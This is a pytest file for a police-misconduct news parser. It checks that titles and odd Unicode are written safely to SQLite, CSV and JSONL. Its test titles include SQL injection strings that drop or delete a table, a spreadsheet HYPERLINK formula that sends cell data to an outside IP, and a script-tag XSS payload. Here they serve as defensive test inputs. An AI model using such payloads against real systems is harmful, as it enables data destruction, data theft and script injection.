"""Words of a page that would mean something to what opens the file are words in it, and nothing else."""

from __future__ import annotations

import csv
import json
import sqlite3
from contextlib import closing
from pathlib import Path

import attrs
import pytest

import misconduct_parse as mp
from misconduct_parse.cli.story import story_of
from misconduct_parse.export.output import Output
from tests.unit.cli.calling import PAGE, run

TITLES = (
    "x'); DROP TABLE cases; --",
    '"; DELETE FROM "cases"; --',
    '=HYPERLINK("https://192.0.2.1/?"&A1;"PC A dismissed")',
    "</script><script>alert(1)</script>",
    "a\r\nb,c\td",
)


@pytest.mark.parametrize("title", TITLES)
def test_a_title_is_a_title_in_every_file(title: str, tmp_path: Path) -> None:
    source = f"---\ntitle: {json.dumps(title)}\n---\n\nPC A of Essex Police was dismissed at a misconduct hearing.\n"
    case = mp.parse(source, format="force_news")
    assert case.title
    for name in ("out.sqlite", "out.csv", "out.jsonl"):
        with Output(tmp_path / name, table=None if name == "out.jsonl" else "cases") as output:
            output.add("page", case)
    with closing(sqlite3.connect(tmp_path / "out.sqlite")) as database:
        assert database.execute("SELECT title FROM cases").fetchall() == [(case.title,)]
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["title"] in (case.title, f"'{case.title}")
    assert not row["title"].startswith("=")
    assert json.loads((tmp_path / "out.jsonl").read_text(encoding="utf-8"))["title"] == case.title


@pytest.mark.parametrize("form", ["json", "jsonl"])
def test_half_a_surrogate_pair_is_written_as_json_s_escape(form: str, tmp_path: Path) -> None:
    case = attrs.evolve(mp.parse(PAGE), title="a \udc00 b")
    for table in (None, "cases"):
        out = tmp_path / f"{table}.{form}"
        with Output(out, table=table) as output:
            output.add("page", case)
        data = json.loads(out.read_text(encoding="utf-8").splitlines()[0 if form == "jsonl" else 1])
        assert data["title"] == case.title


def test_half_a_surrogate_pair_in_json_ld_is_shown_and_written(tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    data = r'{"@type":"NewsArticle","headline":"x","publisher":{"name":"Essex \udc00 Police"}}'
    page.write_text(f'<html><head><script type="application/ld+json">{data}</script></head><body><p>{PAGE}</p></body>')
    assert "Essex \ufffd Police" in run("explain", page).stdout
    for form in ("json", "jsonl"):
        written = json.loads(run("parse", page, "--format", form).stdout_bytes.decode("utf-8"))
        case = written[0] if form == "json" else written
        assert case["publisher"] == "Essex \ufffd Police"


def test_half_a_surrogate_pair_of_a_text_is_shown() -> None:
    story = "".join(line.plain for line in story_of(mp.parse(f"\udc00 {PAGE}", format="force_news")))
    assert story.encode().decode() == story
